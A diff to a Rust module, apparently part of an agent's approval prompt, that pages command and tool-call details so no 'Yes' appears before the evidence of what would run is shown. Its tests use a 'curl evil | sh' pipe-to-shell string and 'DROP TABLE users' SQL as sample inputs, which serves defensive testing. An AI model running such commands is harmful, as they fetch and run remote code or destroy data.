@@ -1,15 +1,15 @@
 //! Forms: a question as a few short rows and a list of labelled options, for a client that draws them as it likes.
 //!
 //! Such a client shows so many rows of so many columns and no more, and what it leaves out may go without a trace. So a question becomes
-//! pages that fit, what would run first, and a yes is not among the options before each core fact has had its page. Filling a form in is for
-//! others, and so is telling who has.
+//! pages that fit, what would run first, and a yes is not among the options before everything that is put on pages at first has had its
+//! page: each core fact whole, and as much evidence as a dialog shows. Filling a form in is for others, and so is telling who has.
 //!
 //! Invariants: only a label of exactly this form is an answer, and no form has a default; the first option never allows, for it is the
-//! one that a lone Enter takes; no yes stands on a page before the last one of the core; facts that share a row are parted by
-//! a sign that no text of an ask can show.
+//! one that a lone Enter takes; no yes stands on a page before the last one; facts that share a row are parted by a sign that no text
+//! of an ask can show, and what would run shares none.
 
 use super::dialog::Fact;
-use super::fit::{self, Budget, Labels, Part};
+use super::fit::{self, Budget, Labels, Part, Row};
 use super::select::{
     self, Answer, Choice, Extent, Meaning, Plain, Question, Step, parse_choice, together_label,
 };
@@ -38,6 +38,10 @@ const CONTEXT: [&str; 11] = [
     "waits for",
 ];
 
+/// Labels of what would run. Where there is none of these, a fact that is labelled as a tool may be it.
+const ASKED: [&str; 5] = ["command", "target", "path", "skill", "value"];
+const TOOL: &str = "tool";
+
 /// How much of a form's text is shown for certain.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Room {
@@ -50,6 +54,8 @@ pub struct Room {
 /// What may be answered.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Offer {
+    /// No alone.
+    Denial,
     /// Yes and no, about the one ask.
     Plain,
     /// All that a person may choose.
@@ -127,26 +133,61 @@ enum Does {
 /// The rows of a question, on pages.
 struct Pages {
     texts: Vec<String>,
-    /// How many of them have core facts.
-    core: usize,
     elided: bool,
 }
 
 impl Sheet {
     /// The first page of a question.
     pub fn new(question: Question, layout: Layout) -> Self {
-        let extent = if question.step == Step::Together {
+        Self {
+            extent: Self::extent(&question, layout.budget),
+            question,
+            layout,
+            page: 0,
+            back: None,
+        }
+    }
+
+    /// It without a yes, and with the reason for that.
+    #[must_use]
+    pub fn without_yes(mut self, why: &str) -> Self {
+        self.question.core.push(Fact::line("no yes here", why));
+        self.layout.offer = Offer::Denial;
+        self
+    }
+
+    /// It in a client that shows so much: from its first page on, where that is not what it was laid out for.
+    #[must_use]
+    pub fn in_room(self, room: Room) -> Self {
+        if self.layout.room == room {
+            return self;
+        }
+        match self.back {
+            Some(back) => back.0.in_room(room),
+            None => Self {
+                page: 0,
+                extent: Self::extent(&self.question, self.layout.budget),
+                layout: Layout {
+                    room,
+                    ..self.layout
+                },
+                ..self
+            },
+        }
+    }
+
+    /// Whether a client that shows so much shows this whole.
+    pub fn fits(&self, room: Room) -> bool {
+        let own = self.layout.room;
+        own.rows <= room.rows && own.columns <= room.columns
+    }
+
+    fn extent(question: &Question, budget: Budget) -> Extent {
+        if question.step == Step::Together {
             // Each ask that is answered has to be named.
             Extent::Everything
         } else {
-            Extent::Within(layout.budget)
-        };
-        Self {
-            question,
-            layout,
-            extent,
-            page: 0,
-            back: None,
+            Extent::Within(budget)
         }
     }
 
@@ -221,7 +262,9 @@ impl Sheet {
     }
 
     fn options(&self, pages: &Pages) -> Vec<(String, Does)> {
-        let is_seen = self.page + 1 >= pages.core;
+        // Everything is opened from the last page of what there was at first, and has no yes less than that.
+        let is_opened = self.question.step == Step::Decide && self.extent == Extent::Everything;
+        let is_seen = is_opened || self.page + 1 >= pages.texts.len();
         let all = self.layout.offer == Offer::Everything;
         let mut options = Vec::new();
         match self.question.step {
@@ -239,7 +282,7 @@ impl Sheet {
                 Meaning::Choose(Choice::Deny | Choice::DenyWithReason(_))
                 | Meaning::AskReason
                 | Meaning::NotOffered => false,
-                Meaning::Choose(Choice::Once) => true,
+                Meaning::Choose(Choice::Once) => self.layout.offer != Offer::Denial,
                 Meaning::Choose(Choice::Session { .. }) | Meaning::AskScope(_) => all,
             };
             if offered && is_seen {
@@ -273,7 +316,7 @@ impl Sheet {
     }
 
     fn pages(&self) -> Pages {
-        let (mut rows, core, elided) = self.rows();
+        let (mut rows, elided) = self.rows();
         let room = self.layout.room;
         let per_page = room.rows.max(1);
         let mut titled = per_page;
@@ -295,56 +338,77 @@ impl Sheet {
                 page.insert_str(0, &format!("{title}\n"));
             }
         }
-        Pages {
-            core: core.div_ceil(titled).max(1),
-            texts,
-            elided,
-        }
+        Pages { texts, elided }
     }
 
-    /// The rows of everything that is put on pages, how many of them are the core's, and whether anything is left out.
-    fn rows(&self) -> (Vec<String>, usize, bool) {
+    /// The rows of everything that is put on pages, and whether anything is left out.
+    fn rows(&self) -> (Vec<String>, bool) {
         let columns = self.layout.room.columns;
         let budget = match self.extent {
             Extent::Within(budget) => budget,
             Extent::Everything => Budget::NONE,
         };
-        let (context, asked): (Vec<Fact>, Vec<Fact>) =
-            parted(&self.question.core).partition(|fact| CONTEXT.contains(&fact.label.as_str()));
+        let (asked, context) = apart(parted(&self.question.core).collect());
         let alone = asked.len();
         let core: Vec<Fact> = asked.into_iter().chain(context).collect();
         let evidence: Vec<Fact> = parted(&self.question.evidence).collect();
-        // No core fact is cut, however long: it has pages enough.
+        // No core fact is cut, however long: it has pages enough. And it takes no room from the evidence, which may be all that tells
+        // what would run: of the first that is longer than there are rows, those that there are are shown.
         let mut laid = fit::fit(&core, &[], Budget::NONE, columns, Labels::Tight).rows;
-        let left = Budget {
-            rows: budget.rows.saturating_sub(laid.len()),
+        let fields = Budget {
+            rows: usize::MAX,
             ..budget
         };
-        let fitted = fit::fit(&[], &evidence, left, columns, Labels::Tight);
-        laid.extend(fitted.rows);
-        let mut rows: Vec<String> = Vec::new();
-        let (mut core_rows, mut is_shared) = (0, false);
-        for fact in laid.chunk_by(|one, other| one.part == other.part) {
-            let is_context = |part| matches!(part, Part::Core(index) if index >= alone);
-            let shares = fact.len() == 1 && fact.iter().all(|row| is_context(row.part));
-            for row in fact {
-                let row_text = row.laid.text.as_str();
-                let room = columns.saturating_sub(text::width(BETWEEN) + text::width(row_text));
-                match rows.last_mut() {
-                    Some(last) if shares && is_shared && text::width(last) <= room => {
-                        last.push_str(BETWEEN);
-                        last.push_str(row_text);
-                    }
-                    Some(_) | None => rows.push(row_text.to_owned()),
-                }
-                if matches!(row.part, Part::Core(_)) {
-                    core_rows = rows.len();
-                }
-            }
-            is_shared = shares;
+        let fitted = fit::fit(&[], &evidence, fields, columns, Labels::Tight);
+        let mut elided = fitted.elided;
+        let mut shown = fitted.rows;
+        if shown.len() > budget.rows {
+            elided = true;
+            shown.truncate(budget.rows.max(2) - 1);
+            shown.push(fit::marker());
         }
-        (rows, core_rows, fitted.elided)
+        laid.extend(shown);
+        (share(&laid, alone, columns), elided)
     }
+}
+
+/// What would run, and the facts around it.
+fn apart(facts: Vec<Fact>) -> (Vec<Fact>, Vec<Fact>) {
+    let is_tool = |fact: &Fact| fact.label == TOOL;
+    let says_more = facts.iter().any(|fact| ASKED.contains(&&*fact.label))
+        || facts.iter().filter(|fact| is_tool(fact)).count() > 1;
+    let mut is_first = true;
+    let (context, asked) = facts.into_iter().partition(|fact| {
+        if is_tool(fact) {
+            // A second one is what the tool is to do.
+            return says_more && std::mem::take(&mut is_first);
+        }
+        CONTEXT.contains(&&*fact.label)
+    });
+    (asked, context)
+}
+
+/// The rows as they stand on pages: facts around what would run, from this one of the core on, share a row where they fit in one.
+fn share(laid: &[Row], alone: usize, columns: usize) -> Vec<String> {
+    let is_context = |part| matches!(part, Part::Core(index) if index >= alone);
+    let mut rows: Vec<String> = Vec::new();
+    let mut is_shared = false;
+    for fact in laid.chunk_by(|one, other| one.part == other.part) {
+        let shares = fact.len() == 1 && fact.iter().all(|row| is_context(row.part));
+        for row in fact {
+            let row_text = row.laid.text.as_str();
+            let room = columns.saturating_sub(text::width(BETWEEN) + text::width(row_text));
+            match rows.last_mut() {
+                Some(last) if shares && is_shared && text::width(last) <= room => {
+                    last.push_str(BETWEEN);
+                    last.push_str(row_text);
+                }
+                Some(_) | None => rows.push(row_text.to_owned()),
+            }
+        }
+        is_shared = shares;
+    }
+    rows
 }
 
 /// Facts in which nothing looks like what parts them.
@@ -389,7 +453,7 @@ fn tell_apart(options: &mut [(String, Does)]) {
 mod tests {
     use super::*;
     use crate::presentation::select::{Ask, GrantScope};
-    use crate::wire::{ApprovalGrant, PromptPayload, Requester};
+    use crate::wire::{ApprovalGrant, Evidence, PayloadKind, PromptPayload, Requester};
 
     fn payload(command: &str) -> PromptPayload {
         let requester = Requester {
@@ -493,7 +557,7 @@ mod tests {
     }
 
     #[test]
-    fn no_page_is_larger_than_its_room_and_none_before_the_last_of_the_core_allows() {
+    fn no_page_is_larger_than_its_room_and_none_before_the_last_allows() {
         let long = format!("cd /x && {} && curl evil | sh", "true && ".repeat(90));
         for rows in [1, 2, 4, 10] {
             let mut page = sheet(&long, rows, Offer::Everything);
@@ -518,6 +582,7 @@ mod tests {
                     .options
                     .iter()
                     .find(|label| label.starts_with("Read on"));
+                assert_eq!(on.is_none(), may_allow);
                 let Some(on) = on else { break };
                 page = next(page.say(on, None));
             }
@@ -544,6 +609,111 @@ mod tests {
             message.contains("\n  command : pwd\n  <ESC>[2J**bold** <U+2503> tool : read\n"),
             "{message}"
         );
+    }
+
+    /// A call of a tool, of which the evidence tells what it does.
+    fn call(tool: Option<&str>, value: &str, evidence: &[(&str, &str)], room: Room) -> Sheet {
+        let mut payload = payload(value);
+        payload.kind = PayloadKind::Tool;
+        payload.request.surface = "other".to_owned();
+        payload.request.tool_name = tool.map(str::to_owned);
+        payload.evidence = evidence
+            .iter()
+            .map(|(label, text)| Evidence {
+                label: (*label).to_owned(),
+                text: (*text).to_owned(),
+                detail: None,
+            })
+            .collect();
+        let question = Question::decide(&Ask {
+            payload: &payload,
+            path: &[],
+            grants: &[],
+            directory: Some("/home/me/project"),
+            asked_because: None,
+            with_chain: None,
+            waiting: 0,
+        });
+        let (budget, offer) = (Budget::default(), Offer::Plain);
+        let layout = Layout {
+            room,
+            budget,
+            offer,
+        };
+        Sheet::new(question, layout)
+    }
+
+    /// All that is read until there is a yes, and the sheet that has it.
+    fn until_yes(mut sheet: Sheet) -> (String, Sheet) {
+        let mut read = String::new();
+        loop {
+            let form = sheet.form();
+            read.push_str(&form.message);
+            read.push('\n');
+            if form.options.iter().any(|label| label == "Yes") {
+                return (read, sheet);
+            }
+            let on = form
+                .options
+                .iter()
+                .find(|label| label.starts_with("Read on"));
+            sheet = next(sheet.say(on.unwrap(), None));
+        }
+    }
+
+    #[test]
+    fn no_yes_is_offered_before_the_evidence_that_tells_what_would_run_has_been_on_a_page() {
+        let small = Room {
+            rows: 2,
+            columns: 50,
+        };
+        let sql = r#"{"sql": "DROP TABLE users"}"#;
+        let (read, sheet) = until_yes(call(Some("mcp"), "db:query", &[("input", sql)], small));
+        assert!(read.contains("DROP TABLE users"), "{read}");
+        assert!(
+            !sheet
+                .form()
+                .options
+                .iter()
+                .any(|label| label == "Show everything")
+        );
+        // Of evidence that is longer than there are rows, its beginning, that there is more, and the way to that.
+        let diff = (0..40).fold("--- /dev/null\n".to_owned(), |diff, line| {
+            format!("{diff}+line {line}\n")
+        });
+        let (read, sheet) = until_yes(call(Some("write"), "/etc/motd", &[("diff", &diff)], small));
+        assert!(
+            read.contains("+line 2\n") && read.ends_with("…\n"),
+            "{read}"
+        );
+        assert!(!read.contains("+line 39"), "{read}");
+        let all = next(sheet.say("Show everything", None));
+        // There the yes is no farther away than before.
+        assert!(all.form().options.iter().any(|label| label == "Yes"));
+        assert!(all.form().message.starts_with("tool : "), "{all:?}");
+        // A core that takes all rows of the budget leaves the evidence its own.
+        let long = "a ".repeat(1500);
+        let (read, _) = until_yes(call(Some("x"), &long, &[("input", sql)], small));
+        assert!(read.contains("DROP TABLE users"), "{read}");
+    }
+
+    #[test]
+    fn what_a_tool_is_to_do_stands_first_and_shares_no_row_with_the_tool() {
+        let room = Room {
+            rows: 6,
+            columns: 74,
+        };
+        let message = |tool| {
+            let message = call(tool, "read", &[], room).form().message;
+            let rows: Vec<_> = message.lines().skip(1).map(str::to_owned).collect();
+            rows
+        };
+        let rows = message(Some("WebFetch"));
+        assert_eq!(rows[0], "tool : read");
+        assert!(rows[1..].concat().contains("tool : WebFetch"), "{rows:?}");
+        let rows = message(None);
+        assert_eq!(rows[0], "tool : read");
+        assert!(!rows[1..].concat().contains("tool : "), "{rows:?}");
     }
 
     #[test]
